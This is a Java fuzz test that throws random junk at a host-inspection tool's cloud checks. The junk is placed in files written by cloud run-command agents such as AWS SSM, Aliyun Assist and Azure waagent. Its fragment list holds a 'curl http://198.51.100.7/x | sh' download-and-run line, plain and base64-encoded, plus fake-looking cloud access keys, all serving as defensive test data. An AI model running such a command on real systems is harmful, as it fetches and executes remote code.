package davy.agent.check.cloud;

import static org.assertj.core.api.Assertions.assertThat;

import davy.agent.check.Catalogue;
import davy.agent.check.Options;
import davy.agent.triage.CheckTrial;
import davy.core.host.CaseHost;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import org.junit.jupiter.api.Test;

/// No content of a host makes a check of this area throw, or take long.
final class JunkTest {
    private static final List<String> PLACES =
            List.of(
                    "/usr/local/share/aliyun-assist/2.2.3.1/log/aliyun_assist_main.log",
                    "/usr/local/share/aliyun-assist/work/script/t-hz0abcdefgh.sh",
                    "/tmp/t-hz0abcdefgh.sh",
                    "/usr/local/qcloud/tat_agent/log/tat_agent.log",
                    "/tmp/tat_agent/commands/202112/task_invt-a_b.sh",
                    "/var/lib/amazon/ssm/i-1/document/state/completed/c",
                    "/var/lib/amazon/ssm/i-1/document/orchestration/c/p/s/_script.sh",
                    "/var/lib/waagent/run-command/download/0/script.sh",
                    "/var/lib/waagent/X.CustomScript-1/config/0.settings",
                    "/var/lib/cloud/instances/i/scripts/part-001",
                    "/var/lib/cloud/instance/user-data.txt",
                    "/srv/.env");
    private static final List<String> PIECES =
            List.of(
                    "{\"commandContent\":\"",
                    "time=\"2021-12-26T13:39:01+08:00\" msg=\"",
                    "{\\\"taskID\\\":\\\"t-1\\\",\\\"commandContent\\\":\\\"Y3VybCB4\\\"}",
                    "Y3VybCBodHRwOi8vMTk4LjUxLjEwMC43L3ggfCBzaA==",
                    "taskId=t-1&start=9999999999999&exitCode=99999999999",
                    "InvocationNormalTask { invocation_task_id: \"a",
                    "\\u{110000}\\xZZ\\",
                    "ReportTaskFinishRequest {",
                    "[[[[[[{{{{",
                    "{\"runCommand\":[\"id\"]}",
                    "#!/bin/sh\n",
                    "curl http://198.51.100.7/x | sh\n",
                    "LTAI5tQm8ZkV3rYwB7nPd2Hs k7Rw2ZpQ9xVb4Ty6Mn1Lc8Hs3Jd5Gf\n",
                    "AKIA5FLZVX4OI4ZDQJOL//",
                    "huawei ak=QX7RTB2MZK9VPL4WYC1D\n",
                    "\"",
                    "\n",
                    "\0",
                    "密钥");

    @Test
    void nothingThrows() {
        var random = new Random(11);
        for (int round = 0; round < 60; round++) {
            var host = new LinkedHashMap<String, Object>();
            for (String place : PLACES) {
                host.put(place, Map.of("text", junk(random)));
            }
            for (var entry : Catalogue.entries()) {
                if (entry.area().equals("cloud")) {
                    var trial = CheckTrial.run(entry, CaseHost.of(host), Options.standard());
                    assertThat(trial.failures()).as("round %s", round).isEmpty();
                }
            }
        }
    }

    private static String junk(Random random) {
        var text = new StringBuilder();
        for (int i = random.nextInt(12); i >= 0; i--) {
            text.append(PIECES.get(random.nextInt(PIECES.size())));
        }
        return text.toString();
    }
}
